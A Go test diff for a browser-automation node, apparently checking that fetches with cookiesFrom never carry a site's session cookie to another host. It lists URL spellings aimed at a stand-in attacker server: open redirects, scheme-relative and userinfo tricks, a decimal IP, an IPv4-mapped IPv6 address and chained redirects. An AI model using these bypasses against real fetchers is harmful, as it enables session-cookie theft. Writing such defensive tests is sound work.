@@ -257,3 +257,85 @@ func TestProbeWhoMayFetch(t *testing.T) {
 	}
 	t.Logf("observer attempts at the resources: %d got through", through)
 }
+
+// cookiesFrom: the default profile's browser holds a session cookie
+// (HttpOnly) and a path cookie from a site on 127.0.0.1; a fetch with
+// cookiesFrom is redirected, or aimed directly, at a server on 127.0.0.2
+// (allowed: the attacker's) in several spellings. Each is one attack; it
+// got through when that server saw the session's value.
+func TestProbeCookiesFromStayWithTheirHost(t *testing.T) {
+	const session = "SESSION-7f3a"
+	var sawSession atomic.Int64
+	var cookies sync.Map
+	attacker := serveOn(t, "127.0.0.2", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if strings.Contains(r.Header.Get("Cookie"), session) {
+			sawSession.Add(1)
+		}
+		cookies.Store(r.URL.String(), r.Header.Get("Cookie"))
+		fmt.Fprint(w, "ok")
+	}))
+	var owner *httptest.Server
+	owner = serveOn(t, "127.0.0.1", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case r.URL.Path == "/set":
+			http.SetCookie(w, &http.Cookie{Name: "sid", Value: session, Path: "/", HttpOnly: true})
+			http.SetCookie(w, &http.Cookie{Name: "priv", Value: "only-under-private", Path: "/private"})
+			fmt.Fprint(w, "<title>set</title>set")
+		case r.URL.Path == "/to":
+			w.Header().Set("Location", r.URL.Query().Get("next"))
+			w.WriteHeader(http.StatusFound)
+		default:
+			fmt.Fprint(w, r.Header.Get("Cookie"))
+		}
+	}))
+	wl, err := whitelist.New([]string{"127.0.0.1", "127.0.0.2"}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	node := startTestNode(t, NodeOptions{Prefix: "fbcookie", Whitelist: wl})
+	agent := newBusClient(t, node)
+	tab := node.Tabs()[0].Tab
+	if res := agent.plan(node.Subjects(), tab, protocol.Plan{Actions: []protocol.Action{{Type: "navigate", URL: owner.URL + "/set", Wait: true}}}); !res.OK {
+		t.Fatalf("navigate to set the cookies: %+v", res)
+	}
+	fetchWith := func(u string) (protocol.FetchReply, protocol.ErrorReply) {
+		var reply protocol.FetchReply
+		raw := agent.ask(node.Subjects().HTTPFetch(), protocol.FetchRequest{URL: u, CookiesFrom: protocol.DefaultProfile}, &reply)
+		var e protocol.ErrorReply
+		json.Unmarshal(raw, &e)
+		return reply, e
+	}
+	// The control: the owner's own site gets its cookies, the path one only
+	// under its path.
+	if r, e := fetchWith(owner.URL + "/echo"); !strings.Contains(r.Body, session) || strings.Contains(r.Body, "only-under-private") {
+		t.Fatalf("the owner's site with cookiesFrom: %q %+v", r.Body, e)
+	}
+	if r, _ := fetchWith(owner.URL + "/private/x"); !strings.Contains(r.Body, "only-under-private") {
+		t.Fatalf("the owner's /private with cookiesFrom: %q", r.Body)
+	}
+	_, aport, _ := net.SplitHostPort(attacker.Listener.Addr().String())
+	_, oport, _ := net.SplitHostPort(owner.Listener.Addr().String())
+	to := func(next string) string { return owner.URL + "/to?next=" + url.QueryEscape(next) }
+	attacks := []string{
+		attacker.URL + "/direct",
+		to(attacker.URL + "/redirected"),
+		to("//127.0.0.2:" + aport + "/scheme-relative"),
+		to("http://127.0.0.1@127.0.0.2:" + aport + "/userinfo"),
+		to("http://127.0.0.1:" + oport + "@127.0.0.2:" + aport + "/userinfo-port"),
+		to("http://2130706434:" + aport + "/decimal"),
+		to("http://[::ffff:127.0.0.2]:" + aport + "/mapped"),
+		"http://127.0.0.1:" + oport + "@127.0.0.2:" + aport + "/first-userinfo",
+		to(to(attacker.URL + "/two-hops")),
+	}
+	through := 0
+	for _, u := range attacks {
+		before := sawSession.Load()
+		r, e := fetchWith(u)
+		if sawSession.Load() > before || strings.Contains(r.Body, session) || strings.Contains(e.Error, session) {
+			through++
+			t.Errorf("got through: %s: %q %+v", u, r.Body, e)
+		}
+	}
+	t.Logf("%d fetches with cookiesFrom aimed at another host, %d carried the session", len(attacks), through)
+	cookies.Range(func(k, v any) bool { t.Logf("the attacker saw %v with Cookie %q", k, v); return true })
+}
